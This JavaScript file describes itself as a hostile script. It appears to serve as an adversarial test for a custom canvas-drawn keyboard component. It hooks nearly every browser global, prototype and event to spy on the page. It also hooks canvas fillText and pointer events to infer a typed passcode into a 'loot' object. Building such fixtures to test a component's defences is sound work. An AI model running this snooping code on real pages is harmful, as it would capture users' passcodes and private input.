// A hostile script, as thorough as we can think of. It replaces every function and every accessor that it can reach,
// and looks at everything that passes through them; it listens to everything that it can hear. What it has found is in
// `loot`.
//
// SPDX-License-Identifier: Apache-2.0

(() => {
  const { apply, construct, ownKeys, getOwnPropertyDescriptor, defineProperty, setPrototypeOf } = Reflect;
  const { Set, Array: List, Object: Thing, Error: Fault } = globalThis;
  const add = Set.prototype.add, push = List.prototype.push, describe = Thing.prototype.toString;
  const canvasOf = getOwnPropertyDescriptor(CanvasRenderingContext2D.prototype, 'canvas').get;
  const { fillText, getImageData } = CanvasRenderingContext2D.prototype;
  const { HTMLCanvasElement, CanvasRenderingContext2D: Context, ShadowRoot, WebAssembly } = globalThis;
  const { ArrayBuffer, ElementInternals, Event, Node } = globalThis;
  const { Memory, Instance } = WebAssembly;
  const loot = globalThis.loot = {
    calls: 0, canvases: new Set(), roots: new Set(), memories: new Set(), inside: new Set(), ways: new Set(), pixels: 0,
    called: new Set(), drawn: [], stolen: '', points: [], heard: [], messages: [], replaced: 0,
  };
  let isBusy = false;

  function take(kind, value, way) {
    apply(add, loot[kind], [value]);
    apply(add, loot.ways, [`${kind}: ${way}`]);
  }

  /** Looks at a value that has passed through a hook. */
  function look(value, way) {
    try { lookAt(value, way); } catch { /* it only looked like one, as `this` does in a constructor */ }
  }

  function lookAt(value, way) {
    if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
    if (value instanceof HTMLCanvasElement) take('canvases', value, way);
    else if (value instanceof Context) {
      take('canvases', apply(canvasOf, value, []), way);
      try {
        apply(getImageData, value, [0, 0, 9, 9]);
        loot.pixels++;
      } catch { /* tainted */ }
    } else if (value instanceof ShadowRoot) take('roots', value, way);
    else if (value instanceof Memory || value instanceof Instance) take('memories', value, way);
    else if (value instanceof ArrayBuffer && value.byteLength >= 131072 && value.byteLength % 65536 === 0) {
      take('memories', value, way);
    }
    if (ArrayBuffer.isView(value)) look(value.buffer, way);
    if (value instanceof ElementInternals && value.shadowRoot) take('roots', value.shadowRoot, way);
    if (value instanceof Event) {
      for (const node of [value.target, ...value.composedPath()]) lookInside(node, way);
      for (const more of value.getCoalescedEvents?.() ?? []) lookInside(more.target, `${way}, coalesced`);
      for (const more of value.getPredictedEvents?.() ?? []) lookInside(more.target, `${way}, predicted`);
      for (const touch of value.touches ?? []) lookInside(touch.target, `${way}, touches`);
    }
  }

  /** A node must not be one of a closed shadow tree. */
  function lookInside(node, way) {
    if (node instanceof Node && node.getRootNode() instanceof ShadowRoot) take('inside', node, way);
  }

  function spy(self, values, way) {
    if (isBusy) return;
    isBusy = true;
    loot.calls++;
    try {
      // "Error", this function, the hook, and who called it.
      const caller = new Fault().stack.split('\n')[3] ?? '';
      if (!way.endsWith('->') && caller.includes('/custom-keyboard.js')) take('called', way, caller.trim());
      look(self, way);
      for (let i = 0; i < values.length; i++) look(values[i], way);
    } catch { /* on with it */ } finally { isBusy = false; }
  }

  function hooked(original, way) {
    const hook = function (...values) {
      spy(this, values, way);
      const answer = new.target
        ? construct(original, values, new.target === hook ? original : new.target) : apply(original, this, values);
      spy(undefined, [answer], `${way} ->`);
      return answer;
    };
    try {
      if (original.prototype) hook.prototype = original.prototype;
      setPrototypeOf(hook, original);
    } catch { /* not a class */ }
    return hook;
  }

  const SPARED = ['globalThis', 'window', 'self', 'loot', 'constructor', 'eval', 'isReady', 'keyboard', 'keyboards',
    'events', 'addKeyboard', 'sealed', 'call', 'encode', 'sendAgain', 'opened', 'answered', 'lastRequest'];

  function replaceAll(holder, name) {
    for (const key of ownKeys(holder)) {
      if (SPARED.includes(key)) continue;
      const known = getOwnPropertyDescriptor(holder, key), way = `${name}.${String(key)}`;
      if (!known || (!known.configurable && !known.writable)) continue;
      let changed = false;
      for (const part of ['value', 'get', 'set']) {
        if (typeof known[part] !== 'function') continue;
        known[part] = hooked(known[part], way);
        changed = true;
      }
      if (!changed) continue;
      try {
        defineProperty(holder, key, known);
        loot.replaced++;
      } catch { /* protected */ }
    }
  }

  // The keys that a hooked fillText has seen, and the one nearest to a finger: the passcode.
  const hookedFillText = function (text, x, y) {
    const { a, d, e, f } = this.getTransform();
    apply(push, loot.drawn, [[text, (a * x + e) / devicePixelRatio, (d * y + f) / devicePixelRatio]]);
    look(this, 'fillText');
    return apply(fillText, this, [text, x, y]);
  };
  addEventListener('pointerup', (event) => {
    apply(push, loot.points, [[event.clientX, event.clientY]]);
    look(event, 'listener');
    if (event.target?.localName !== 'custom-keyboard' || loot.drawn.length === 0) return;
    const near = (key) => Math.hypot(key[1] - event.offsetX, key[2] - event.offsetY);
    loot.stolen += loot.drawn.slice(-11).sort((p, q) => near(p) - near(q))[0][0];
  }, true);
  for (const type of ['pointerdown', 'pointermove', 'pointerrawupdate', 'touchstart', 'touchend', 'click', 'focusin',
    'keydown', 'gotpointercapture', 'lostpointercapture']) {
    addEventListener(type, (event) => { look(event, 'listener'); }, true);
  }
  for (const type of ['input', 'complete']) {
    addEventListener(type, (event) => apply(push, loot.heard, [`${type} ${JSON.stringify(event.detail)}`]), true);
  }
  addEventListener('message', (event) => apply(push, loot.messages, [event.data]), true);

  // What no function is called for: elements of arrays, members that are not there, promises, stack traces.
  for (let i = 0; i < 80; i++) {
    defineProperty(List.prototype, i, { configurable: true, get() {}, set(value) {
      spy(this, [value], `Array.prototype[${i}]`);
      defineProperty(this, i, { value, writable: true, enumerable: true, configurable: true });
    } });
  }
  for (const name of ['then', 'canvas', 'buffer', 'memory', 'exports', 'alpha', 'mode', 'box', 'detail']) {
    if (name in Thing.prototype) continue;
    defineProperty(Thing.prototype, name, { configurable: true, get() { spy(this, [], `Object.prototype.${name}`); },
      set(value) {
        spy(this, [value], `Object.prototype.${name}`);
        defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      } });
  }
  Fault.prepareStackTrace = (error, sites) => {
    for (const site of sites) for (const part of [site.getThis(), site.getFunction()]) look(part, 'stack trace');
    return [error, ...sites].map(String).join('\n');
  };
  const OriginalPromise = Promise;
  defineProperty(Promise.prototype, 'constructor', { configurable: true, get() {
    spy(this, [], 'Promise.prototype.constructor');
    return OriginalPromise;
  } });

  // Observers of everything.
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records) for (const n of [target, ...addedNodes]) lookInside(n, 'mutation');
  }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  for (const type of PerformanceObserver.supportedEntryTypes) {
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        lookInside(entry.target, type);
        lookInside(entry.element, type);
        for (const source of entry.sources ?? []) lookInside(source.node, type);
      }
    }).observe({ type, buffered: true, durationThreshold: 16 });
  }

  // Now every function and accessor of every class and namespace.
  for (const name of Thing.getOwnPropertyNames(globalThis)) {
    if (SPARED.includes(name) || name === 'WebAssembly') continue;
    let value;
    try { value = globalThis[name]; } catch { continue; }
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || value === globalThis) continue;
    if (value === document || value instanceof Node) continue;
    if (typeof value === 'function' && value.prototype) replaceAll(value.prototype, name);
    if (!['Object', 'Function', 'Reflect', 'Array'].includes(name)) replaceAll(value, name);
  }
  replaceAll(Thing.getPrototypeOf(Uint8Array.prototype), 'TypedArray');
  replaceAll(WebAssembly, 'WebAssembly');
  for (const Kind of [WebAssembly.Memory, WebAssembly.Instance, WebAssembly.Module]) {
    replaceAll(Kind.prototype, `WebAssembly.${Kind.name}`);
  }
  replaceAll(globalThis, 'window');
  CanvasRenderingContext2D.prototype.fillText = hookedFillText;
})();
